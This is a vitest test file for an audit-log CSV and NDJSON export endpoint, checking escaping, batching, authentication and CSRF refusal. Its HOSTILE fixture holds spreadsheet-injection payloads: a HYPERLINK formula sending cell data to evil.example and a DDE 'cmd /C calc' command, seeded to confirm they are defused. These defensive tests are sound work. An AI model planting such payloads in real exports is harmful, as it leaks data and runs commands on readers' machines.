import { sql } from "drizzle-orm";
import { beforeEach, describe, expect, it } from "vitest";
import { AUDIT_EXPORT_PATH, handleAuditExport } from "../http/audit-export";
import { auditTransaction, CLI_ACTOR, recordAudit, SYSTEM_ACTOR } from "../services/audit";
import { createToken } from "../services/tokens";
import { createTestRuntime, seedUser, type TestRuntime } from "../testing/harness";
import { csvCell, EXPORT_BATCH, exportChunks } from "./export";

/** A strict RFC 4180 reader: every field quoted, "" for a quote, CRLF between records. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let i = 0;
  while (i < text.length) {
    const record: string[] = [];
    for (;;) {
      if (text[i] !== '"') throw new Error(`unquoted field at ${i}`);
      let value = "";
      i++;
      for (;;) {
        const next = text.indexOf('"', i);
        if (next < 0) throw new Error("unterminated field");
        value += text.slice(i, next);
        if (text[next + 1] === '"') {
          value += '"';
          i = next + 2;
        } else {
          i = next + 1;
          break;
        }
      }
      record.push(value);
      if (text[i] === ",") {
        i++;
        continue;
      }
      if (text.slice(i, i + 2) !== "\r\n") throw new Error(`expected CRLF at ${i}`);
      i += 2;
      break;
    }
    records.push(record);
  }
  return records;
}

const HOSTILE = {
  userAgent: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  name: '+cmd|" /C calc"!A0',
  note: 'line one\nline two, with "quotes"',
};

let rt: TestRuntime;

async function seedEntries(n: number) {
  for (let i = 0; i < n; i++) {
    await auditTransaction(rt.db, (tx) =>
      recordAudit(tx, rt.clock, {
        actor: CLI_ACTOR,
        action: i % 2 ? "contact.update" : "user.create",
        target: { type: "user", id: `-${i}` },
        client: { ip: "@203.0.113.1", userAgent: HOSTILE.userAgent, requestId: `req_${i}` },
        detail: { name: HOSTILE.name, note: HOSTILE.note, i },
      }),
    );
  }
}

async function readAll(res: Response): Promise<{ text: string; chunks: number }> {
  const reader = (res.body as ReadableStream<Uint8Array>).getReader();
  const decoder = new TextDecoder();
  let text = "";
  let chunks = 0;
  for (;;) {
    const { done, value } = await reader.read();
    if (done) return { text, chunks };
    chunks++;
    text += decoder.decode(value, { stream: true });
  }
}

beforeEach(() => {
  rt = createTestRuntime();
});

describe("CSV cells", () => {
  it("quotes every cell, doubles quotes, and defuses formulas", () => {
    expect(csvCell("plain")).toBe('"plain"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell(null)).toBe('""');
    expect(csvCell(42)).toBe('"42"');
    for (const start of ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]) {
      expect(csvCell(`${start}1+1`), JSON.stringify(start)).toBe(`"'${start}1+1"`);
    }
    expect(csvCell("a=b")).toBe('"a=b"');
  });
});

/** Every chunk of an export, in order. */
async function collect(chunks: AsyncIterable<string>): Promise<string[]> {
  const out: string[] = [];
  for await (const chunk of chunks) out.push(chunk);
  return out;
}

describe("audit export", () => {
  it("writes valid, injection-safe CSV with every entry and the hash columns", async () => {
    await seedEntries(3);
    const text = (await collect(exportChunks(rt.db, {}, "csv", 1000))).join("");
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual([
      "seq",
      "id",
      "at",
      "actor_kind",
      "actor_id",
      "action",
      "target_type",
      "target_id",
      "outcome",
      "ip",
      "user_agent",
      "request_id",
      "detail",
      "prev_hash",
      "hash",
    ]);
    expect(rows).toHaveLength(3);
    for (const row of rows) {
      expect(row).toHaveLength(15);
      // No cell can start a formula in a spreadsheet.
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    const first = rows[0] as string[];
    expect(first[10]).toBe(`'${HOSTILE.userAgent}`);
    expect(first[9]).toBe("'@203.0.113.1");
    expect(first[7]).toBe("'-0");
    // The detail stays JSON (its own quotes doubled by CSV), newline escaped inside JSON.
    expect(JSON.parse(first[12] as string)).toEqual({ i: 0, name: HOSTILE.name, note: HOSTILE.note });
    expect(first[13]).toMatch(/^0{64}$/);
  });

  it("writes NDJSON: one JSON object per line, values intact, newlines escaped", async () => {
    await seedEntries(3);
    const text = (await collect(exportChunks(rt.db, {}, "ndjson", 1000))).join("");
    const lines = text.split("\n");
    expect(lines.pop()).toBe("");
    expect(lines).toHaveLength(3);
    const parsed = lines.map((line) => JSON.parse(line));
    expect(parsed.map((e) => e.seq)).toEqual([1, 2, 3]);
    expect(parsed[0]).toMatchObject({
      action: "user.create",
      userAgent: HOSTILE.userAgent,
      ip: "@203.0.113.1",
      detail: { name: HOSTILE.name, note: HOSTILE.note, i: 0 },
    });
    expect(parsed[1].prevHash).toBe(parsed[0].hash);
  });

  it("exports in batches, in order, filtered, and only what existed when it began", async () => {
    await seedEntries(25);
    const all = await collect(exportChunks(rt.db, {}, "ndjson", 25, 10));
    expect(all.map((chunk) => chunk.trim().split("\n").length)).toEqual([10, 10, 5]);
    const seqs = all
      .join("")
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l).seq as number);
    expect(seqs).toEqual(Array.from({ length: 25 }, (_, i) => i + 1));

    // Filtered, and bounded by the snapshot taken when the export began (seq 20).
    const users = (await collect(exportChunks(rt.db, { action: "user." }, "ndjson", 20, 10)))
      .join("")
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l));
    expect(users).toHaveLength(10);
    expect(users.every((e) => e.action === "user.create" && e.seq <= 20)).toBe(true);
  });
});

describe(`GET ${AUDIT_EXPORT_PATH}`, () => {
  async function adminToken() {
    const admin = await seedUser(rt, "root@example.com", "admin");
    const svc = {
      db: rt.db,
      clock: rt.clock,
      actor: SYSTEM_ACTOR,
      client: { ip: null, userAgent: null, requestId: "seed" },
    };
    return { admin, token: (await createToken(svc, admin.user.id, { name: "export", scopes: ["admin"] })).token };
  }
  const get = (query: string, headers: Record<string, string> = {}) =>
    handleAuditExport(new Request(`http://localhost:3000${AUDIT_EXPORT_PATH}?${query}`, { headers }), rt);

  it("streams the filtered log as a download and records the export in the audit log", async () => {
    const { token } = await adminToken();
    await seedEntries(EXPORT_BATCH + 5); // more than one batch through the stream
    const res = await get("format=csv&action=contact.", { authorization: `Bearer ${token}` });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(
      /^attachment; filename="gatehouse-audit-\d{8}T\d{6}Z\.csv"$/,
    );
    expect(res.headers.get("cache-control")).toBe("no-store");
    expect(res.headers.get("x-request-id")).toBeTruthy();
    const { text } = await readAll(res);
    const rows = parseCsv(text).slice(1);
    expect(rows).toHaveLength(Math.floor((EXPORT_BATCH + 5) / 2));
    expect(rows.every((r) => r[5] === "contact.update")).toBe(true);

    const audited = await rt.db.all<{ actor_kind: string; detail: string }>(
      sql`select actor_kind, detail from audit_log where action = 'audit.export'`,
    );
    expect(audited).toHaveLength(1);
    expect(audited[0]?.actor_kind).toBe("token");
    expect(JSON.parse(audited[0]?.detail ?? "{}")).toMatchObject({ format: "csv", filter: { action: "contact." } });
  });

  it("streams NDJSON with its content type", async () => {
    const { token } = await adminToken();
    const res = await get("format=ndjson", { authorization: `Bearer ${token}` });
    expect(res.headers.get("content-type")).toBe("application/x-ndjson; charset=utf-8");
    const lines = (await readAll(res)).text.trim().split("\n");
    for (const line of lines) expect(() => JSON.parse(line)).not.toThrow();
  });

  it("refuses: no credential 401, a member 403, bad input 400 naming the field; nothing exported", async () => {
    const { admin, token } = await adminToken();
    const anonymous = await get("format=csv");
    expect(anonymous.status).toBe(401);
    expect(anonymous.headers.get("www-authenticate")).toMatch(/^Bearer realm=/);

    const member = await seedUser(rt, "member@example.com");
    const svc = {
      db: rt.db,
      clock: rt.clock,
      actor: SYSTEM_ACTOR,
      client: { ip: null, userAgent: null, requestId: "seed" },
    };
    const memberToken = (await createToken(svc, member.user.id, { name: "m", scopes: ["contacts:read"] })).token;
    expect((await get("format=csv", { authorization: `Bearer ${memberToken}` })).status).toBe(403);

    const bad = await get("format=xml&since=yesterday", { authorization: `Bearer ${token}` });
    expect(bad.status).toBe(400);
    const body = await bad.json();
    expect(body.errors.map((e: { path: string }) => e.path).sort()).toEqual(["format", "since"]);

    expect((await get("format=csv&format=ndjson", { authorization: `Bearer ${token}` })).status).toBe(400);
    expect((await get("format=csv&unknown=1", { authorization: `Bearer ${token}` })).status).toBe(400);
    void admin;
    const exports = await rt.db.all(sql`select 1 from audit_log where action = 'audit.export'`);
    expect(exports).toHaveLength(0);
  });

  it("refuses a cookie-authenticated export started by another site", async () => {
    const res = await get("format=csv", { "sec-fetch-site": "cross-site", cookie: "gatehouse.session=x" });
    expect(res.status).toBe(403);
    expect((await res.json()).type).toBe("urn:gatehouse:problem:csrf");
  });
});
